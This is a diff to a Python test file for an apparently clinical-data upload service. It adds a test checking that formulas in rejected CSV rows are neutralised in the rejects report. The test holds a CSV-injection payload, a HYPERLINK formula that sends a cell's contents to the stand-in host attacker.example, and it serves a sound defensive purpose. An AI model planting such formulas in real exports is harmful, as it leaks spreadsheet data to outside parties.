@@ -5,7 +5,9 @@ the field, and no job is made."""
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 
 import pytest
 from sqlalchemy import text
@@ -253,3 +255,20 @@ async def test_a_fhir_server_is_collected_page_by_page_and_its_token_is_never_sh
     assert dataset["config"]["token"] == "<removed>"
     assert len(dataset["payloads"]) == 2
     assert all(len(p["sha256"]) == 64 for p in dataset["payloads"])
+
+
+async def test_a_formula_in_a_rejected_row_is_defused_in_the_rejects_csv(client, steward):
+    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"Open")'
+    quoted = formula.replace('"', '""')
+    rest = "MRN-9,@SUM(1+1),1950-13-40,male,squamous_cell_carcinoma,8070/3,C15.4,middle,2022-05-01,"
+    rest += "alive,2024-01-01"
+    bad = f'"{quoted}",{rest}\n'
+    upload_id = await upload(client, steward, HEADER + bad)
+
+    job = await collect(client, steward, upload_id)
+    report = await client.get(f"/api/v1/collection/jobs/{job['id']}/rejects", headers=steward)
+
+    rows = list(csv.reader(io.StringIO(report.text)))
+    assert job["counts"]["rejected"] == 1, job
+    assert rows[1][:3] == ["row 2", "'" + formula, "birth_date"]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
